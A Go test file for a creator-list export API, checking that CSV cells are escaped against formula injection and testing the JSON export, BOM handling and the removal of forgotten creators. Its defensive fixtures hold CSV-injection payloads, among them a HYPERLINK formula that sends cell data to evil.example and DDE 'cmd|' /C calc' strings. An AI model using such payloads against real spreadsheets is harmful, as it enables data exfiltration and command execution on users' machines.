package api

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/creatorscout/creatorscout/creator"
)

// TestSafeCell covers each OWASP CSV-injection trigger, after leading
// spaces too, and cells that must stay as they are.
func TestSafeCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example","x")`, `'=HYPERLINK("http://evil.example","x")`},
		{"=1+1", "'=1+1"},
		{"+1+1", "'+1+1"},
		{"-1+1", "'-1+1"},
		{"@SUM(A1:A2)", "'@SUM(A1:A2)"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\n=1+1", "'\n=1+1"},
		{"  =1+1", "'  =1+1"},
		{" +cmd|' /C calc'!A0", "' +cmd|' /C calc'!A0"},
		{"   -2", "'   -2"},
		{" @x", "' @x"},
		{" \tx", "' \tx"},
		{"＝1+1", "'＝1+1"}, // full-width forms some spreadsheets read as formulas
		{"＋1", "'＋1"},
		{"－1", "'－1"},
		{"＠x", "'＠x"},
		{"", ""},
		{"   ", "   "},
		{"a=b", "a=b"},
		{"1-2", "1-2"},
		{"O'Neil, \"Jo\"", "O'Neil, \"Jo\""},
		{"x\n=1", "x\n=1"},
		{"anna@example.com", "anna@example.com"},
		{"\xff=1", "\uFFFD=1"}, // invalid UTF-8 replaced
	} {
		if got := safeCell(tc.in); got != tc.want {
			t.Errorf("safeCell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

// hostileNames are display names crawled from profiles, one per injection
// case, each on its own creator, with the cell the CSV must hold.
var hostileNames = []struct{ name, cell string }{
	{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
	{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
	{"-2+3", "'-2+3"},
	{"@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"},
	{"\t=1+1", "'\t=1+1"},
	{"\r=1+1", "'=1+1"}, // encoding/csv with CRLF line ends drops a lone CR
	{"   =1+1", "'   =1+1"},
	{"＝1+1", "'＝1+1"},
	{`Zoë, "the" runner` + "\nline two", `Zoë, "the" runner` + "\nline two"},
}

func exportEnv(t *testing.T) (*env, *Server, int64) {
	t.Helper()
	e := newEnv(t)
	ctx := context.Background()
	at := fetched.Add(time.Hour)
	l, err := e.st.CreateList(ctx, "=export me", at)
	if err != nil {
		t.Fatal(err)
	}
	for i, h := range hostileNames {
		c := testCreator(fmt.Sprintf("youtube:hostile%d", i), "fitness", creator.Micro, "GB", int64(20000+i), 0.03)
		c.DisplayName = h.name
		c.Email = "-x@evil.example"
		c.Website = "=https://evil.example"
		e.put(t, c)
		if _, err := e.st.AddToList(ctx, l.ID, c.ID, "@boss call back", "contacted", at.Add(time.Duration(i)*time.Second)); err != nil {
			t.Fatal(err)
		}
	}
	// Unknown numbers and a resolved location, brands from the analysis.
	unknown := creator.Creator{ID: "instagram:quiet", Platform: "instagram", Handle: "quiet", DisplayName: "Quiet",
		URL: "https://instagram.example/quiet", FetchedAt: fetched, SourceURL: "https://instagram.example/quiet",
		Location: &creator.Location{Raw: "somewhere near the sea"}}
	e.put(t, unknown)
	rich := testCreator("bluesky:rich.example", "beauty", creator.Micro, "US", 42000, 0.0512)
	rich.Location = &creator.Location{Raw: "ATX", City: "Austin", Region: "Texas", Country: "US"}
	rich.Email, rich.Website = "rich@example.com", "https://rich.example"
	last := fetched.Add(-6 * time.Hour)
	rich.LastPostAt = &last
	rich.Niches = []string{"beauty", "skincare"}
	rich.Analysis = &creator.Analysis{AnalyzedAt: fetched, Disclosures: &creator.DisclosureSummary{
		Counts: map[string]int{"sponsored": 1},
		Brands: []creator.Brand{{Name: "acme", Class: creator.Sponsored}, {Name: "glow", Class: creator.Gifted},
			{Name: "lumen", Class: creator.Gifted}, {Name: "shopx", Class: creator.Affiliate}, {Name: "cafe", Class: creator.Organic}},
	}}
	e.put(t, rich)
	for _, id := range []string{"instagram:quiet", "bluesky:rich.example", anna} {
		if _, err := e.st.AddToList(ctx, l.ID, id, "", "", at.Add(time.Minute)); err != nil {
			t.Fatal(err)
		}
	}
	return e, newTestServer(t, Config{}, e.deps()), l.ID
}

func parseCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(body))
	r.FieldsPerRecord = len(exportColumns)
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("the export is not valid CSV: %v\n%s", err, body)
	}
	if !reflect.DeepEqual(recs[0], exportColumns) {
		t.Fatalf("header %q", recs[0])
	}
	return recs
}

func TestExportCSV(t *testing.T) {
	_, s, id := exportEnv(t)
	path := fmt.Sprintf("/v1/lists/%d/export.csv", id)
	col := map[string]int{}
	for i, c := range exportColumns {
		col[c] = i
	}
	rows := func(t *testing.T, body []byte) map[string][]string {
		recs := parseCSV(t, body)
		out := map[string][]string{}
		for _, r := range recs[1:] {
			out[r[col["platform"]]+":"+r[col["handle"]]] = r
		}
		return out
	}
	runCases(t, s.Handler(), []apiCase{
		{Desc: "RFC 4180, UTF-8, no BOM by default", Path: path, Status: 200, ContentType: "text/csv; charset=utf-8",
			HeaderMatch: map[string]string{"Content-Disposition": fmt.Sprintf(`attachment; filename="list-%d.csv"`, id)},
			Check: func(t *testing.T, body []byte) {
				if bytes.HasPrefix(body, []byte(utf8BOM)) {
					t.Errorf("BOM without bom=1")
				}
				// Every record ends in CRLF; a bare LF only inside a quoted field.
				if !bytes.HasSuffix(body, []byte("\r\n")) || !bytes.HasPrefix(body, []byte(strings.Join(exportColumns, ",")+"\r\n")) {
					t.Errorf("records do not end in CRLF: %q", body[:min(len(body), 300)])
				}
				recs := parseCSV(t, body)
				if len(recs) != 1+len(hostileNames)+3 {
					t.Errorf("%d rows, want %d", len(recs)-1, len(hostileNames)+3)
				}
			}},
		{Desc: "every injection case is neutralised", Path: path, Status: 200, ContentType: "text/csv; charset=utf-8",
			Check: func(t *testing.T, body []byte) {
				got := rows(t, body)
				for i, h := range hostileNames {
					r := got[fmt.Sprintf("youtube:hostile%d", i)]
					if r == nil {
						t.Fatalf("hostile%d missing", i)
					}
					if r[col["name"]] != h.cell {
						t.Errorf("name %q exported as %q, want %q", h.name, r[col["name"]], h.cell)
					}
					for c, want := range map[string]string{"email": "'-x@evil.example", "website": "'=https://evil.example",
						"note": "'@boss call back", "status": "contacted"} {
						if r[col[c]] != want {
							t.Errorf("hostile%d %s = %q, want %q", i, c, r[col[c]], want)
						}
					}
				}
			}},
		{Desc: "unknown numbers are empty cells, never 0", Path: path, Status: 200, ContentType: "text/csv; charset=utf-8",
			Check: func(t *testing.T, body []byte) {
				r := rows(t, body)["instagram:quiet"]
				for _, c := range []string{"followers", "engagement_rate", "last_post_at", "tier"} {
					if r[col[c]] != "" {
						t.Errorf("%s = %q, want an empty cell", c, r[col[c]])
					}
				}
				if r[col["location"]] != "somewhere near the sea" || r[col["status"]] != "new" {
					t.Errorf("quiet: %q", r)
				}
			}},
		{Desc: "known figures, location, brands by class", Path: path, Status: 200, ContentType: "text/csv; charset=utf-8",
			Check: func(t *testing.T, body []byte) {
				r := rows(t, body)["bluesky:rich.example"]
				want := map[string]string{
					"followers": "42000", "engagement_rate": "0.0512", "tier": "micro", "niches": "beauty; skincare",
					"location": "Austin, Texas, US", "email": "rich@example.com", "website": "https://rich.example",
					"brands_sponsored": "acme", "brands_affiliate": "shopx", "brands_gifted": "glow; lumen", "brands_organic": "cafe",
					"last_post_at": "2026-03-01T06:00:00Z", "url": "https://example.test/rich.example",
				}
				for c, w := range want {
					if r[col[c]] != w {
						t.Errorf("%s = %q, want %q", c, r[col[c]], w)
					}
				}
				// Without an analysis summary, brands come from the posts.
				if r := rows(t, body)[anna]; r[col["brands_gifted"]] != "acme" || r[col["brands_sponsored"]] != "" {
					t.Errorf("anna's brands from posts: %q", r)
				}
			}},
		{Desc: "bom=1 for Excel", Path: path + "?bom=1", Status: 200, ContentType: "text/csv; charset=utf-8",
			Check: func(t *testing.T, body []byte) {
				if !bytes.HasPrefix(body, []byte{0xEF, 0xBB, 0xBF}) {
					t.Fatalf("no UTF-8 BOM: % x", body[:3])
				}
				parseCSV(t, body[3:])
			}},
		{Desc: "bom=true", Path: path + "?bom=true", Status: 200, ContentType: "text/csv; charset=utf-8",
			ResponseMatch: map[string]bool{utf8BOM: true}},
		{Desc: "bom=0", Path: path + "?bom=0", Status: 200, ContentType: "text/csv; charset=utf-8",
			ResponseMatch: map[string]bool{utf8BOM: false}},
		{Desc: "bad bom", Path: path + "?bom=yes", Status: 400, Code: "invalid", Param: "bom"},
		{Desc: "bom twice", Path: path + "?bom=1&bom=1", Status: 400, Code: "invalid", Param: "bom"},
		{Desc: "unknown parameter", Path: path + "?sep=tab", Status: 400, Code: "invalid", Param: "sep"},
		{Desc: "malformed query", Path: path + "?bom=%zz", Status: 400, Code: "invalid", Param: "query"},
		{Desc: "unknown list", Path: "/v1/lists/99/export.csv", Status: 404, Code: "not_found"},
		{Desc: "bad list id", Path: "/v1/lists/x/export.csv", Status: 400, Code: "invalid", Param: "id"},
		{Desc: "the list name is not in a header", Path: path, Status: 200, ContentType: "text/csv; charset=utf-8",
			ResponseMatch: map[string]bool{"=export me": false}},
	})
}

func TestExportJSON(t *testing.T) {
	_, s, id := exportEnv(t)
	path := fmt.Sprintf("/v1/lists/%d/export.json", id)
	runCases(t, s.Handler(), []apiCase{
		{Desc: "rows", Path: path, Status: 200,
			HeaderMatch: map[string]string{"Content-Disposition": fmt.Sprintf(`attachment; filename="list-%d.json"`, id)},
			Check: func(t *testing.T, body []byte) {
				var raw struct {
					Rows []map[string]json.RawMessage `json:"rows"`
				}
				if err := json.Unmarshal(body, &raw); err != nil {
					t.Fatal(err)
				}
				var res exportResponse
				if err := json.Unmarshal(body, &res); err != nil {
					t.Fatal(err)
				}
				if len(res.Rows) != len(hostileNames)+3 || res.List == nil || res.List.ID != id {
					t.Fatalf("%d rows, list %+v", len(res.Rows), res.List)
				}
				for i, r := range res.Rows {
					if got := keys(raw.Rows[i]); len(got) != 15 {
						t.Errorf("row %d keys %v", i, got)
					}
					switch r.Platform + ":" + r.Handle {
					case "instagram:quiet":
						for _, k := range []string{"followers", "engagement_rate", "last_post_at"} {
							if string(raw.Rows[i][k]) != "null" {
								t.Errorf("quiet %s = %s, want null", k, raw.Rows[i][k])
							}
						}
					case "bluesky:rich.example":
						want := BrandsBy{Sponsored: []string{"acme"}, Affiliate: []string{"shopx"}, Gifted: []string{"glow", "lumen"}, Organic: []string{"cafe"}}
						if !reflect.DeepEqual(r.Brands, want) || *r.Followers != 42000 || *r.EngagementRate != 0.0512 {
							t.Errorf("rich %+v", r)
						}
					case "youtube:hostile0":
						// JSON is data, not a spreadsheet: the value is kept as crawled.
						if r.Name != hostileNames[0].name || r.Status != "contacted" || r.Note != "@boss call back" {
							t.Errorf("hostile0 %+v", r)
						}
					}
				}
			}},
		{Desc: "no bom on JSON", Path: path + "?bom=1", Status: 400, Code: "invalid", Param: "bom"},
		{Desc: "unknown list", Path: "/v1/lists/99/export.json", Status: 404, Code: "not_found"},
		{Desc: "bad list id", Path: "/v1/lists/0/export.json", Status: 400, Code: "invalid", Param: "id"},
	})
}

// TestExportLeavesOutForgottenCreators: store.Forget removes a creator's
// list entries, so neither export nor the items carry any trace of them.
func TestExportLeavesOutForgottenCreators(t *testing.T) {
	e, s, id := exportEnv(t)
	at := fetched.Add(2 * time.Hour)
	if err := e.st.Forget(context.Background(), "bluesky:rich.example", "erasure request", at); err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{"export.csv", "export.json", "items"} {
		rec := do(s.Handler(), apiCase{Path: fmt.Sprintf("/v1/lists/%d/%s", id, p)})
		if rec.Code != 200 {
			t.Fatalf("%s: %d %s", p, rec.Code, rec.Body)
		}
		for _, trace := range []string{"rich.example", "rich@example.com", "Austin", "shopx", "lumen", "42000"} {
			if strings.Contains(rec.Body.String(), trace) {
				t.Errorf("%s still carries %q of a forgotten creator", p, trace)
			}
		}
		if !strings.Contains(rec.Body.String(), "quiet") {
			t.Errorf("%s lost the other creators: %s", p, rec.Body)
		}
	}
	rec := do(s.Handler(), apiCase{Path: fmt.Sprintf("/v1/lists/%d/export.csv", id)})
	if n := len(parseCSV(t, rec.Body.Bytes())) - 1; n != len(hostileNames)+2 {
		t.Errorf("%d rows after forgetting one, want %d", n, len(hostileNames)+2)
	}
}
